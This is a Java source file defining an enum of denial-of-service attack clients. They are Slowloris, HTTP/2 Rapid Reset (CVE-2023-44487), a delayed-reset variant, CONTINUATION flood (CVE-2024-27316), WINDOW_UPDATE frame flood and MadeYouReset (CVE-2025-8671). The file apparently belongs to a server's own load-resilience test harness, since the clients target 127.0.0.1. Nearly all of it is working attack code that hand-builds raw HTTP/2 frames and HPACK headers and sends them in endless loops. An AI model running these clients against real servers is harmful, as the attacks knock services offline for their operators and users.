package dev.adit.neverdrop;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.concurrent.atomic.LongAdder;
import java.util.concurrent.locks.LockSupport;

/** Clients that mean no good, each in its own way, for as long as they are let. */
public enum Attack {
    /** Five thousand heads that never come to their end, a byte at a time. */
    SLOWLORIS {
        @Override
        void once(int port, LongAdder done) throws IOException, InterruptedException {
            var sockets = new ArrayList<Socket>();
            var turn = 0;
            try {
                while (!Thread.currentThread().isInterrupted()) {
                    while (sockets.size() < SLOW_CLIENTS) {
                        var socket = new Socket("127.0.0.1", port);
                        socket.getOutputStream()
                                .write("GET / HTTP/1.1\r\nHost: a.test\r\nX-A: ".getBytes(StandardCharsets.US_ASCII));
                        sockets.add(socket);
                        done.increment();
                    }
                    // Each says something every five seconds, and never all at once.
                    for (var i = turn % TURNS; i < sockets.size(); i += TURNS) {
                        if (!says(sockets.get(i))) {
                            sockets.remove(i);
                        }
                    }
                    turn++;
                    Thread.sleep(Duration.ofMillis(10));
                }
            } finally {
                for (var socket : sockets) {
                    socket.close();
                }
            }
        }
    },
    /** CVE-2023-44487: streams that are reset as soon as they are open. */
    RAPID_RESET {
        @Override
        void once(int port, LongAdder done) throws IOException {
            frames(port, done, (out, stream) -> {
                write(out, HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
                write(out, RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
            });
        }
    },
    /** The same, and the resets come when the requests are on their way. */
    LATE_RESET {
        @Override
        void once(int port, LongAdder done) throws IOException {
            frames(port, done, (out, stream) -> {
                write(out, HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
                if (stream % (2 * IN_A_ROW) == 1 && stream > 1) {
                    LockSupport.parkNanos(1_000_000);
                    for (var i = 1; i <= IN_A_ROW; i++) {
                        write(out, RST_STREAM, 0, stream - 2 * i, new byte[] {0, 0, 0, 8});
                    }
                }
            });
        }
    },
    /** CVE-2024-27316 and its like: a head that goes on and on. */
    CONTINUATION_FLOOD {
        @Override
        void once(int port, LongAdder done) throws IOException {
            frames(port, done, (out, stream) -> {
                if (stream == 1) {
                    write(out, HEADERS, END_STREAM, 1, HEAD);
                }
                write(out, CONTINUATION, 0, 1, FIELD);
            });
        }
    },
    /** Frames that anybody may send, and that say next to nothing, as fast as they go. */
    SMALL_FRAMES {
        @Override
        void once(int port, LongAdder done) throws IOException {
            frames(port, done, (out, stream) -> {
                for (var i = 0; i < IN_A_ROW; i++) {
                    write(out, WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
                }
            });
        }
    },
    /** CVE-2025-8671: streams that the server itself is made to reset. */
    MADE_YOU_RESET {
        @Override
        void once(int port, LongAdder done) throws IOException {
            frames(port, done, (out, stream) -> {
                write(out, HEADERS, END_HEADERS, stream, HEAD);
                write(out, WINDOW_UPDATE, 0, stream, new byte[4]);
            });
        }
    };

    private static final int SLOW_CLIENTS = 5_000;
    private static final int TURNS = 500;
    private static final int IN_A_ROW = 50;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    // RFC 7541, appendix A: GET, http, /, and an authority as a literal.
    private static final byte[] HEAD = head();
    private static final byte[] FIELD = field();

    /** In a process of its own, until it is ended; arguments: its name and the port. */
    public static void main(String[] arguments) throws InterruptedException {
        var attack = valueOf(arguments[0]);
        var done = new LongAdder();
        Runtime.getRuntime().addShutdownHook(new Thread(() -> System.out.println(done.sum())));
        while (!Thread.currentThread().isInterrupted()) {
            try {
                attack.once(Integer.parseInt(arguments[1]), done);
            } catch (IOException _) {
                // thrown out: again
            }
        }
    }

    abstract void once(int port, LongAdder done) throws IOException, InterruptedException;

    /** One round of frames on a connection. */
    @FunctionalInterface
    private interface Round {
        void send(OutputStream out, int stream) throws IOException;
    }

    private static void frames(int port, LongAdder done, Round round) throws IOException {
        try (var socket = new Socket("127.0.0.1", port)) {
            var drain = Thread.startVirtualThread(() -> {
                try {
                    socket.getInputStream().transferTo(OutputStream.nullOutputStream());
                } catch (IOException _) {
                    // the server has had enough
                }
            });
            var out = socket.getOutputStream();
            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            write(out, SETTINGS, 0, 0, new byte[0]);
            for (var stream = 1; drain.isAlive() && !Thread.currentThread().isInterrupted(); stream += 2) {
                var frames = new ByteArrayOutputStream();
                round.send(frames, stream);
                out.write(frames.toByteArray());
                done.increment();
            }
        }
    }

    private static void write(OutputStream out, int type, int flags, int stream, byte[] payload) throws IOException {
        out.write(ByteBuffer.allocate(9)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .array());
        out.write(payload);
    }

    private static byte[] head() {
        var host = "a.test".getBytes(StandardCharsets.US_ASCII);
        var head = ByteBuffer.allocate(5 + host.length);
        return head.put(new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, (byte) host.length})
                .put(host)
                .array();
    }

    private static byte[] field() {
        var field = new byte[4 + 100];
        field[1] = 1;
        field[2] = 'a';
        field[3] = 100;
        java.util.Arrays.fill(field, 4, field.length, (byte) 'b');
        return field;
    }

    private static boolean says(Socket socket) {
        try {
            socket.getOutputStream().write('a');
            if (socket.getInputStream().available() > 0) {
                socket.close(); // an answer: it has been given up
                return false;
            }
            return true;
        } catch (IOException _) {
            return false;
        }
    }
}
